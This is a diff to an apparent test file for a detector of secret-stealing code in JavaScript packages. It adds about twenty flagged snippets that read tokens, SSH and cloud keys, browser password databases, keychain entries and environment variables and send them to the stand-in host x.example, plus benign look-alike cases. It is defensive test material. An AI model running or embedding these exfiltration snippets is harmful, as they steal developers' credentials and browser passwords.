@@ -294,6 +294,96 @@ export default defineCases({
           "exports.Http = class { constructor(u) { this.u = u } send(body) { return fetch(this.u, { method: 'POST', body }) } }",
       },
     },
+    {
+      name: 'the token of a developer service',
+      code: "import { readFile } from 'node:fs/promises';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nconst body = await readFile(join(homedir(), '.cache', 'huggingface', 'token'), 'utf8');\nawait fetch('https://x.example', { method: 'POST', body });",
+    },
+    {
+      name: 'the passwords of databases',
+      code: "const fs = require('fs'), os = require('os');\nfetch('https://x.example', { method: 'POST', body: fs.readFileSync(os.homedir() + '/.pgpass') })",
+    },
+    {
+      name: 'the token that the tool of its own service keeps, when its command starts',
+      noted: true,
+      manifest: { type: 'module', bin: 'index.js' },
+      code: "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nconst token = readFileSync(homedir() + '/.cache/huggingface/token', 'utf8');\nawait fetch('https://huggingface.co/api/whoami', { headers: { authorization: token } });",
+    },
+    {
+      name: 'folders of keys, packed into a request',
+      code: "const tar = require('tar'), os = require('os'), https = require('https');\nconst req = https.request('https://x.example', { method: 'PUT' });\ntar.c({ gzip: true, cwd: os.homedir() }, ['.ssh', '.config/gcloud']).pipe(req)",
+    },
+    {
+      name: 'an archive of keys that is read where it lies',
+      code: "const archiver = require('archiver'), fs = require('fs'), os = require('os');\nconst file = os.tmpdir() + '/a.zip';\nconst archive = archiver('zip');\nconst out = fs.createWriteStream(file);\nout.on('close', () => fetch('https://x.example', { method: 'POST', body: fs.readFileSync(file) }));\narchive.pipe(out); archive.directory(os.homedir() + '/.gnupg', false); archive.finalize()",
+    },
+    {
+      name: 'an archive that is made in memory',
+      code: "const Zip = require('adm-zip'), os = require('os');\nconst zip = new Zip(); zip.addLocalFolder(os.homedir() + '/.aws');\nfetch('https://x.example', { method: 'POST', body: zip.toBuffer() })",
+    },
+    {
+      name: 'through streams of the web',
+      code: "const from = new ReadableStream({ start(c) { for (const [k, v] of Object.entries(process.env)) c.enqueue(k + '=' + v); c.close() } });\nconst to = new WritableStream({ async write(chunk) { await fetch('https://x.example', { method: 'POST', body: chunk }) } });\nfrom.pipeTo(to)",
+    },
+    {
+      name: 'through a channel of messages',
+      code: "const { MessageChannel } = require('node:worker_threads');\nconst { port1, port2 } = new MessageChannel();\nport2.on('message', (m) => fetch('https://x.example', { method: 'POST', body: JSON.stringify(m) }));\nport1.postMessage({ ...process.env })",
+    },
+    {
+      name: 'kept for a function that has a name',
+      code: "const { AsyncLocalStorage } = require('node:async_hooks');\nconst kept = new AsyncLocalStorage();\nasync function flush() { await fetch('https://x.example', { method: 'POST', body: JSON.stringify(kept.getStore()) }) }\nkept.run({ all: process.env }, flush)",
+    },
+    {
+      name: 'the database of a browser, from a copy',
+      code: "const { DatabaseSync } = require('node:sqlite'), fs = require('fs'), os = require('os');\nconst copy = os.tmpdir() + '/ld';\nfs.copyFileSync(os.homedir() + '/.config/google-chrome/Default/Login Data', copy);\nconst db = new DatabaseSync(copy);\nfetch('https://x.example', { method: 'POST', body: JSON.stringify(db.prepare('select * from logins').all()) })",
+    },
+    {
+      name: 'line by line, by a beacon',
+      code: "const { open } = require('node:fs/promises'), os = require('os');\nopen(os.homedir() + '/.aws/credentials').then(async (file) => { for await (const line of file.readLines()) navigator.sendBeacon('https://x.example', line) })",
+    },
+    {
+      name: 'one key out of a store of secrets, by which its own requests log in, when a command starts',
+      noted: true,
+      manifest: { type: 'module', bin: 'index.js' },
+      code: "import { execFileSync } from 'node:child_process';\nconst key = execFileSync('op', ['read', 'op://Private/Weather/key'], { encoding: 'utf8' }).trim();\nawait fetch('https://api.weather.example/me', { headers: { authorization: 'Bearer ' + key } });",
+    },
+    {
+      name: 'all keys of a store, in a header',
+      manifest: { type: 'module', bin: 'index.js' },
+      code: "import { execFileSync } from 'node:child_process';\nconst all = execFileSync('op', ['item', 'list', '--format=json'], { encoding: 'utf8' });\nawait fetch('https://x.example/', { headers: { authorization: all } });",
+    },
+    {
+      name: 'what a browser locks its passwords with',
+      manifest: { type: 'module', bin: 'index.js' },
+      code: "import { execFileSync } from 'node:child_process';\nconst key = execFileSync('security', ['find-generic-password', '-s', 'Chrome Safe Storage', '-w'], { encoding: 'utf8' });\nawait fetch('https://x.example/', { headers: { authorization: key } });",
+    },
+    {
+      name: 'all variables but one, by a library',
+      code: "const _ = require('lodash'), axios = require('axios');\naxios.postForm('https://x.example', { all: JSON.stringify(_.omit(process.env, ['PATH'])) })",
+    },
+    {
+      name: 'all variables, signed and packed',
+      code: "const jwt = require('jsonwebtoken'), pako = require('pako');\nfetch('https://x.example', { method: 'POST', body: pako.gzip(jwt.sign({ ...process.env }, 'k')) })",
+    },
+    {
+      name: 'kept beside an object',
+      code: "const kept = new WeakMap(), at = {};\nkept.set(at, process.env);\nfetch('https://x.example', { method: 'POST', body: JSON.stringify(kept.get(at)) })",
+    },
+    {
+      name: 'the keys of several vendors, by a list of their names',
+      code: "const names = ['AWS_SECRET_ACCESS_KEY', 'NPM_TOKEN', 'OPENAI_API_KEY', 'STRIPE_SECRET_KEY'];\nconst found = names.map((name) => [name, process.env[name]]).filter(([, value]) => value);\nif (found.length > 0) fetch('https://x.example', { method: 'POST', body: JSON.stringify(found) })",
+    },
+    {
+      name: 'the keys of several vendors, in a loop',
+      code: "const found = {};\nfor (const name of ['AWS_SECRET_ACCESS_KEY', 'NPM_TOKEN', 'OPENAI_API_KEY']) if (process.env[name]) found[name] = process.env[name];\nfetch('https://x.example', { method: 'POST', body: JSON.stringify(found) })",
+    },
+    {
+      name: 'what is called like keys, anywhere below the home folder',
+      code: "const fs = require('fs'), os = require('os'), path = require('path');\nconst wanted = ['.env', 'id_rsa', 'id_ed25519', 'keystore.json'];\nasync function* walk(dir) { for (const one of await fs.promises.readdir(dir, { withFileTypes: true })) { const file = path.join(dir, one.name); if (one.isDirectory()) yield* walk(file); else if (wanted.includes(one.name)) yield file } }\n(async () => { for await (const file of walk(os.homedir())) fetch('https://x.example', { method: 'POST', body: await fs.promises.readFile(file) }) })()",
+    },
+    {
+      name: 'the passwords of a browser, by a socket',
+      code: "const { DatabaseSync } = require('node:sqlite'), os = require('os');\nconst db = new DatabaseSync(os.homedir() + '/.config/google-chrome/Default/Login Data', { readOnly: true });\nconst rows = db.prepare('select * from logins').all();\nconst ws = new WebSocket('wss://x.example');\nws.onopen = () => ws.send(JSON.stringify(rows))",
+    },
   ],
   ok: [
     {
@@ -496,6 +586,30 @@ export default defineCases({
     {
       name: 'a client configured by a schema',
       code: "const { z } = require('zod');\nconst env = z.object({ KEY: z.string(), URL: z.string() }).parse(process.env);\nexports.post = (b) => fetch(env.URL, { method: 'POST', headers: { key: env.KEY }, body: JSON.stringify(b) })",
+    },
+    {
+      name: 'an archive of a project without what is its own',
+      code: "const archiver = require('archiver'), fs = require('fs');\nexports.pack = (dir, file) => { const archive = archiver('zip'); archive.pipe(fs.createWriteStream(file)); archive.glob('**/*', { cwd: dir, dot: true, ignore: ['.env', '.npmrc', '.ssh/**'] }); return archive.finalize() };\nexports.send = (file) => fetch('https://api.x.example', { method: 'POST', body: fs.readFileSync(file) })",
+    },
+    {
+      name: 'streams and channels of other things',
+      code: "const { MessageChannel } = require('node:worker_threads');\nconst { port1, port2 } = new MessageChannel();\nport2.on('message', (m) => fetch('https://stats.example', { method: 'POST', body: JSON.stringify(m) }));\nexports.tell = (what) => port1.postMessage({ what });\nexports.lines = (lines) => new ReadableStream({ start(c) { for (const line of lines) c.enqueue(line); c.close() } }).pipeTo(new WritableStream({ async write(chunk) { await fetch('https://stats.example', { method: 'POST', body: chunk }) } }));\nexports.region = () => process.env.REGION",
+    },
+    {
+      name: 'the variables of its own, picked by a library',
+      code: "const _ = require('lodash');\nconst own = _.pickBy(process.env, (value, name) => name.startsWith('WEATHER_'));\nfetch('https://api.weather.example', { method: 'POST', body: JSON.stringify(own) })",
+    },
+    {
+      name: 'the first key there is, and each at its vendor',
+      code: "const names = ['OPENAI_API_KEY', 'ANTHROPIC_API_KEY', 'GEMINI_API_KEY'];\nconst key = names.map((name) => process.env[name]).find(Boolean);\nconst read = (name) => process.env[name];\nfetch('https://llm.example', { headers: { authorization: key ?? read('MISTRAL_API_KEY') ?? read('GROQ_API_KEY') ?? read('XAI_API_KEY') } });\nfor (const name of names) if (process.env[name]) fetch('https://check.example/' + name, { headers: { authorization: process.env[name] } });\nconst set = names.map((name) => [name, Boolean(process.env[name])]);\nfetch('https://stats.example', { method: 'POST', body: JSON.stringify(set) })",
+    },
+    {
+      name: 'a copy of a folder without the keys in it',
+      code: "const fs = require('fs'), os = require('os'), path = require('path');\nconst SKIPPED = /id_rsa|\\.pem$|wallet\\.dat/;\nexports.backup = async (dir = path.join(os.homedir(), 'weather')) => { for (const name of fs.readdirSync(dir)) { if (SKIPPED.test(name)) continue; await fetch('https://backup.example/' + name, { method: 'PUT', body: fs.readFileSync(path.join(dir, name)) }) } }",
+    },
+    {
+      name: 'a copy of a folder without what is called like keys',
+      code: "const fs = require('fs'), os = require('os'), path = require('path');\nconst skipped = new Set(['.env', 'id_rsa', 'id_ed25519', 'wallet.dat']);\nexports.backup = async (dir = path.join(os.homedir(), 'weather')) => { for (const name of fs.readdirSync(dir)) { if (skipped.has(name)) continue; await fetch('https://backup.example/' + name, { method: 'PUT', body: fs.readFileSync(path.join(dir, name)) }) } }",
     },
   ],
 });
